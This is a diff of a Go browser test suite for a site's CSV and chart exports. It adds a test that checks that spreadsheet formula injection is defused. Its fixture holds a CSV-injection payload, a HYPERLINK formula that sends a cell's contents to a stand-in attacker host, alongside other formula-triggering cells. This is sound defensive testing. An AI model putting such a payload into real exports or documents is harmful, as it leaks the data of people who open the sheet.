@@ -10,6 +10,7 @@ import (
 	"os"
 	"path/filepath"
 	"slices"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -52,14 +53,14 @@ func (b *browser) downloads(t *testing.T) string {
 	return dir
 }
 
-// waitFile waits for a finished download named name in dir.
+// waitFile waits for a finished download named name in dir, up to
+// hangGuard.
 func waitFile(t *testing.T, dir, name string) []byte {
 	t.Helper()
-	for range 100 {
+	for end := time.Now().Add(hangGuard); time.Now().Before(end); time.Sleep(100 * time.Millisecond) {
 		if b, err := os.ReadFile(filepath.Join(dir, name)); err == nil && len(b) > 0 {
 			return b
 		}
-		time.Sleep(100 * time.Millisecond)
 	}
 	entries, _ := os.ReadDir(dir)
 	t.Fatalf("no download %s in %s: %v", name, dir, entries)
@@ -451,40 +452,17 @@ func TestFacets(t *testing.T) {
 }
 
 // TestExportAndCharts downloads the visible rows as CSV: the header and
-// the rows of the published CSV, the same bytes, for exactly the rows
-// shown, in their order. It downloads each chart as PNG, at twice the
-// size of its SVG file.
+// the rows of the published CSV for spreadsheets, the same bytes, for
+// exactly the rows shown, in their order. It downloads each chart as PNG,
+// at twice the size of its SVG file.
 func TestExportAndCharts(t *testing.T) {
 	site := seedSite(t)
 	b := newBrowser(t, site)
 	dir := b.downloads(t)
-	b.do(t, chromedp.Navigate(b.base+"index.html?province="+url.QueryEscape("浙江省")+"&sort=area_en&dir=desc"), chromedp.WaitVisible(chromedp.ID("export")), chromedp.Click(chromedp.ID("export")))
-	// Named after the table and the filter, with a byte order mark so
-	// that Excel reads the Chinese.
-	got := waitFile(t, dir, "designations-浙江省.csv")
-	shown := get(t, b, chromedp.Evaluate[[]string](`Array.from(document.querySelectorAll("#pilots tbody tr")).filter(r => !r.hidden).map(r => r.dataset.batch + "/" + r.cells[4].textContent.trim())`))
-	whole := string(mustRead(t, filepath.Join(site, "data", "designations", "designations.csv")))
-	all := strings.SplitAfter(whole, "\n")
-	head := readCSV(t, filepath.Join(site, "data", "designations", "designations.csv"))[0]
-	lines := map[string]string{}
-	for _, l := range all[1:] {
-		if l == "" {
-			continue
-		}
-		r, err := csv.NewReader(strings.NewReader(l)).Read()
-		if err != nil {
-			t.Fatal(err)
-		}
-		lines[r[slices.Index(head, "list")]+"-"+r[slices.Index(head, "batch")]+"/"+r[slices.Index(head, "seq")]] = l
-	}
-	want := "\uFEFF" + all[0]
-	for _, k := range shown {
-		want += lines[k]
-	}
-	if len(shown) == 0 || string(got) != want {
-		t.Errorf("the export of %d rows:\n%s\nwant:\n%s", len(shown), got, want)
-	}
-	t.Run("LibreOffice", func(t *testing.T) { libreOfficeReads(t, got, want) })
+	// Named after the table, the filter and the file copied from, with
+	// its byte order mark so that Excel reads the Chinese.
+	got, want := exportOf(t, b, site, dir, "index.html?province="+url.QueryEscape("浙江省")+"&sort=area_en&dir=desc", "designations-浙江省.excel.csv")
+	t.Run("LibreOffice", func(t *testing.T) { libreOfficeReads(t, []byte(got), want) })
 
 	b.do(t, chromedp.Navigate(b.base+"en/lists/index.html"), chromedp.WaitVisible(chromedp.CSS("a[data-png]")), chromedp.Click(chromedp.CSS("a[data-png]")))
 	img, err := png.DecodeConfig(bytes.NewReader(waitFile(t, dir, "tilemap-en.png")))
@@ -496,6 +474,85 @@ func TestExportAndCharts(t *testing.T) {
 	fmt.Sscanf(svg[strings.Index(svg, `width="`):], `width="%d" height="%d"`, &w, &h)
 	if img.Width != 2*w || img.Height != 2*h {
 		t.Errorf("the PNG is %d×%d, the SVG %d×%d", img.Width, img.Height, w, h)
+	}
+	b.noErrors(t, "export")
+}
+
+// exportOf opens page (its address from the site's root) in b, clicks
+// the table's export and returns the file downloaded as name into dir,
+// and what it should hold: the header and the lines of
+// designations.excel.csv of the rows shown, in their order, behind its
+// byte order mark. The test fails when the two differ or no row is
+// shown.
+func exportOf(t *testing.T, b *browser, site, dir, page, name string) (got, want string) {
+	t.Helper()
+	b.do(t, chromedp.Navigate(b.base+page), chromedp.WaitVisible(chromedp.ID("export")), chromedp.Click(chromedp.ID("export")))
+	got = string(waitFile(t, dir, name))
+	shown := get(t, b, chromedp.Evaluate[[]string](`Array.from(document.querySelectorAll("#pilots tbody tr")).filter(r => !r.hidden).map(r => r.dataset.batch + "/" + r.cells[4].textContent.trim())`))
+	path := filepath.Join(site, "data", "designations", "designations.excel.csv")
+	all := strings.SplitAfter(string(mustRead(t, path)), "\r\n")
+	cells := func(line string) []string {
+		r, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(line, "\uFEFF"))).Read()
+		if err != nil {
+			t.Fatalf("%s: %v", path, err)
+		}
+		return r
+	}
+	head := cells(all[0])
+	lines := map[string]string{}
+	for _, l := range all[1:] {
+		if l != "" {
+			r := cells(l)
+			lines[r[slices.Index(head, "list")]+"-"+r[slices.Index(head, "batch")]+"/"+r[slices.Index(head, "seq")]] = l
+		}
+	}
+	want = all[0]
+	for _, k := range shown {
+		want += lines[k]
+	}
+	if len(shown) == 0 || !strings.HasPrefix(want, "\uFEFF") || got != want {
+		t.Errorf("the export of %d rows:\n%s\nwant:\n%s", len(shown), got, want)
+	}
+	return got, want
+}
+
+// TestExportDefused exports the rows of a list whose cells a spreadsheet
+// would take for formulas (a note that links out with a cell of the
+// sheet, areas starting with + and -, a note starting with @): the
+// export, made in the browser, holds no cell a spreadsheet would run,
+// each defused as designations.excel.csv has it, with an apostrophe.
+func TestExportDefused(t *testing.T) {
+	link := `=HYPERLINK("http://evil.example/?"&A1,"点此")`
+	notice := "html: nan\ntitle: 关于公布第九批城市一刻钟便民生活圈试点名单的通知\n" +
+		"resulting_text: 各地： 确定试点地区3个。 附件：名单 商务部办公厅 2030年3月1日 附件 名单 序号 省（区、市） 试点地区 备注 " +
+		"1 北京市 朝阳区 " + link + " 2 天津市 +河北区 @SUM(A1) 3 上海市 -黄浦区\n" +
+		"input_url: 20300305000000/http://www.mofcom.gov.cn/b9.shtml\ndate: 2030-03-05 00:00:00\n"
+	site := build(t, seedsOf(t, map[string][]byte{"batch9.txt": []byte(notice)}))
+	b := newBrowser(t, site)
+	dir := b.downloads(t)
+	got, _ := exportOf(t, b, site, dir, "lists/index.html", "designations-filtered.excel.csv")
+	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(got, "\uFEFF"))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defused := map[string]bool{}
+	for _, r := range rows[1:] {
+		for _, c := range r {
+			if c == "" {
+				continue
+			}
+			// A spreadsheet runs a cell that starts with one of these,
+			// unless it is a number (a longitude of -12.5).
+			if _, err := strconv.ParseFloat(c, 64); err != nil && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
+				t.Errorf("the export has a live formula: %q", c)
+			}
+			defused[c] = true
+		}
+	}
+	for _, c := range []string{link, "+河北区", "@SUM(A1)", "-黄浦区"} {
+		if !defused["'"+c] {
+			t.Errorf("the export has no %q", "'"+c)
+		}
 	}
 	b.noErrors(t, "export")
 }
